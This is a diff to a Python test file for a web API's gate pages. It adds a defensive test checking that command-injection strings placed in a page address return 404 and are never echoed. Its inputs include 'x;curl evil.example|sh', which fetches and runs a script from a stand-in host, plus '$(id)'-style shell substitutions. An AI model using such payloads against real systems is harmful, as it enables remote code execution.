@@ -120,6 +120,12 @@ def test_the_page_is_the_same_for_every_gate(api: TestClient, linked: Linked):
     assert api.get(f"/gates/{linked.scene.gate.id}").text == api.get("/gates/nope").text
 
 
+@pytest.mark.parametrize("id", ["x;curl evil.example|sh", "x%20--url%20evil.example", "$(id)", "x`id`", "x%0Aid"])
+def test_no_page_shows_a_command_that_somebody_put_into_its_address(api: TestClient, id: str):
+    """People paste what a page of their own deployment tells them to."""
+    assert api.get(f"/gates/{id}").status_code == 404
+
+
 def test_the_page_runs_its_own_script_and_nothing_else(api: TestClient):
     """No code or style of others, no frame around it, no address told to anybody, no copy kept."""
     page = api.get("/gates/g")
